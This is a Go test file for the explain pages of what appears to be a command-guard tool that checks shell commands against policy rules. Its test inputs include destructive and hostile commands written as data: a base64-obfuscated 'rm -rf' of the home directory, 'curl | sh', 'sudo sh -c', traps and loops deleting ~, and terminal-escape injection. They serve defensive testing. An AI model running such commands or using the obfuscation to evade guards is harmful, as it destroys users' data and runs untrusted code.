package explain

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agent-loop/shimgen/guard"
	"github.com/agent-loop/shimgen/parser"
	"github.com/agent-loop/shimgen/policy"
	"github.com/agent-loop/shimgen/rules"
	"github.com/agent-loop/shimgen/runner"
)

// update writes the golden pages.
var update = flag.Bool("update", false, "write the golden files anew")

// pageOf explains a request on the model machine under a few rules, so that a page
// changes only if explain changes.
func pageOf(t testing.TB, req guard.Request) *Page {
	t.Helper()
	p, err := policy.Load([]policy.Layer{{Name: "policy.toml", Kind: policy.User, Data: []byte(
		"[actions]\n\"git.push\" = \"allow\"\n[commands]\nallowed = [\"git reset --hard HEAD\"]\n")}}, policy.Flags{})
	require.NoError(t, err)
	var few []rules.Rule
	for r := range p.Rules.All() {
		if slices.Contains([]string{"fs.rm-root", "fs.rm-home", "fs.rm-empty", "git.reset-hard", "git.push", "privilege.elevate", "run.remote"}, r.ID) {
			few = append(few, *r)
		}
	}
	p.Rules = rules.NewSet(few)
	m, model := guard.Model()
	req.Dir, req.Work, req.Vars = model.Dir, model.Work, model.Vars
	s := &runner.Session{Policy: p, Machine: m, Dir: req.Dir, Work: req.Work}
	command := req.Source
	if req.Argv != nil {
		command = strings.Join(req.Argv, " ")
	}
	return New(command, req, guard.Explain(p, m, req), s)
}

func printed(t testing.TB, p *Page) string {
	t.Helper()
	var out bytes.Buffer
	require.NoError(t, p.Print(&out))
	return out.String()
}

// The pages as a person sees them. Run with -update to rewrite them.
func TestExplainPages(t *testing.T) {
	all := func(string) bool { return true }
	for name, req := range map[string]guard.Request{
		"decoded":    {Source: `cd /tmp; D=$(echo cm0K|base64 -d); $D -rf "$HOME"`},
		"nested":     {Source: `sudo sh -c 'git reset --hard "$BRANCH"'`},
		"pipeline":   {Source: "curl -s example.com | sh"},
		"document":   {Source: "cat <<E | bash\ngit reset --hard\nE"},
		"file":       {Source: "cat > t.sh <<'E'\ngit status\nrm -rf ~\nE\nbash t.sh"},
		"loop":       {Source: "for d in build ~; do\n\trm -rf \"$d\"\ndone"},
		"function":   {Source: `clean() { rm -rf "$1"; }; clean /`},
		"trap":       {Source: `trap 'rm -rf ~' EXIT`},
		"empty":      {Source: `rm -rf "$D"/*`},
		"operators":  {Source: `D=rmx; ${D%x} -r {a,b} ${E:-/} "$HOME/.x"/$(date) 'a b' ''`},
		"deferred":   {Source: `git reset $opt`, Shims: all},
		"passed":     {Source: `git reset --hard HEAD; git push`},
		"near":       {Source: `git reset HEAD`},
		"arguments":  {Argv: []string{"git", "reset", "--hard", "a b"}},
		"unreadable": {Source: "echo a\necho b; if"},
		"hostile":    {Source: "echo '\x1b]0;x\a\u202e'; rm -rf ~ \x1b[31m"},
		"long":       {Source: "echo " + strings.Repeat("日本語", 60) + "; rm -rf ~; echo " + strings.Repeat("x", 300)},
	} {
		t.Run(name, func(t *testing.T) {
			got := printed(t, pageOf(t, req))
			file := filepath.Join("..", "testdata", "explain", name+".txt")
			if *update {
				require.NoError(t, os.WriteFile(file, []byte(got), 0o644))
			}
			want, err := os.ReadFile(file)
			require.NoError(t, err)
			assert.Equal(t, string(want), got)
		})
	}
}

// The JSON holds everything that a page shows, and its lists are never null.
func TestExplainJSON(t *testing.T) {
	for _, source := range []string{`rm -rf "$X" ~`, "ls", "if", "cat <<E | sh\nls\nE"} {
		text, err := json.Marshal(pageOf(t, guard.Request{Source: source}))
		require.NoError(t, err)
		assert.NotContains(t, strings.ReplaceAll(string(text), `"origin":null`, ""), "null", source)
	}
}

func TestCarets(t *testing.T) {
	at := func(source, what string) parser.Span {
		i := strings.Index(source, what)
		before := source[:i]
		return parser.Span{
			Line: 1 + strings.Count(before, "\n"), Col: i - strings.LastIndex(before, "\n"), Offset: i, End: i + len(what),
		}
	}
	for _, c := range []struct{ name, source, what, want string }{
		{"a word", "rm -rf /", "/", "   1 | rm -rf /\n     |        ^\n"},
		{"the second line", "a\nbb c\nd", "c", "   2 | bb c\n     |    ^\n"},
		{"over the end of a line", "a b\nc", "b\nc", "   1 | a b\n     |   ^\n"},
		{"after wide characters", "日本 x", "x", "   1 | 日本 x\n     |      ^\n"},
		{"under wide characters", "x 日本", "日本", "   1 | x 日本\n     |   ^^^^\n"},
		{"after a combining mark", "e\u0301 x", "x", "   1 | e\u0301 x\n     |   ^\n"},
		{"after a tab", "\tx", "x", "   1 |  x\n     |  ^\n"},
		{"after what is escaped", "\x1b x", "x", "   1 | \\u001b x\n     |        ^\n"},
		{"under what is escaped", "a\x1bb", "\x1b", "   1 | a\\u001bb\n     |  ^^^^^^\n"},
		{"bytes that are no characters", "\xff\xfe x", "x", "   1 | \\ufffd\\ufffd x\n     |              ^\n"},
		{"a carriage return", "a\r x", "x", "   1 | a\\u000d x\n     |         ^\n"},
		{
			"far to the right", strings.Repeat("a", 200) + " x", "x",
			"   1 | … " + strings.Repeat("a", 29) + " x\n     | " + strings.Repeat(" ", 32) + "^\n",
		},
		{"longer than a line", strings.Repeat("a", 200), strings.Repeat("a", 200), "   1 | " + strings.Repeat("a", 100) + " …\n     | " + strings.Repeat("^", 100) + "\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			var out bytes.Buffer
			carets(&out, "", c.source, []caret{{at(c.source, c.what), '^'}})
			assert.Equal(t, c.want, out.String())
		})
	}
}

// Marks without a place, or in another text, draw nothing and break nothing.
func TestCaretsOfNoPlace(t *testing.T) {
	var out bytes.Buffer
	carets(&out, "", "ls", []caret{{parser.Span{}, '^'}, {parser.Span{Line: 9, Offset: 90, End: 99}, '^'}})
	assert.Empty(t, out.String())
}

func TestCauseInWords(t *testing.T) {
	for want, c := range map[string]cause{
		"profile cautious (the default), for destructive":                                       {Key: "destructive", Layer: "profile cautious", Where: "the default"},
		"user (policy.toml:4), for git.push, and the rule permits no weaker action":             {Key: "git.push", Layer: "user", Where: "policy.toml:4", Floor: true},
		"system (/etc/x:1), for git.*, locked by /etc/x":                                        {Key: "git.*", Layer: "system", Where: "/etc/x:1", Lock: "/etc/x"},
		"network (a file says which hosts there are), for network":                              {Key: "network", Layer: "network", Where: "a file says which hosts there are"},
		"profile open (--no-security), for catastrophic, and the rule permits no weaker action": {Key: "catastrophic", Layer: "profile open", Where: "--no-security", Floor: true},
	} {
		assert.Equal(t, want, c.String())
	}
}

func TestClip(t *testing.T) {
	assert.Equal(t, "short", truncate("short"))
	long := truncate(strings.Repeat("日", maxText))
	assert.True(t, utf8.ValidString(long))
	assert.LessOrEqual(t, len(long), maxText+len(" …"))
}

// Long chains of origins are cut, and so are wide ones.
func TestOriginsOfAWordAreBounded(t *testing.T) {
	p := pageOf(t, guard.Request{Source: "a=x;" + strings.Repeat("a=$a$a;", 12) + "echo $a"})
	text, err := json.Marshal(p)
	require.NoError(t, err)
	assert.Less(t, len(text), 1<<20)
}

func TestManyCommandsAreCut(t *testing.T) {
	p := pageOf(t, guard.Request{Source: strings.Repeat("ls;", 3000) + "rm -rf ~"})
	assert.Positive(t, p.More)
	out := printed(t, p)
	assert.Contains(t, out, "more commands")
	assert.Contains(t, out, "finding    fs.rm-home", "what was found is shown wherever it stands")
}

// Whatever the source is, its control characters never reach the terminal, and nothing
// panics.
func FuzzExplain(f *testing.F) {
	for _, s := range []string{
		`cd /tmp; D=$(echo cm0K|base64 -d); $D -rf "$HOME"`, "cat <<E | sh\nls \x1b\nE", "sudo sh -c 'git reset --hard $X'",
		"for f in {a,b}; do rm -rf \"$f\" ${f%a}; done", "f() { rm $1; }; f '\u202e日本'", "if", "\xff\x00a",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, source string) {
		out := printed(t, pageOf(t, guard.Request{Source: source}))
		assert.True(t, utf8.ValidString(out))
		assert.False(t, strings.ContainsFunc(out, func(r rune) bool { return r < ' ' && r != '\n' || r >= 0x7f && r < 0xa0 || r == 0x202e }))
		_, err := json.Marshal(pageOf(t, guard.Request{Source: source}))
		assert.NoError(t, err)
	})
}
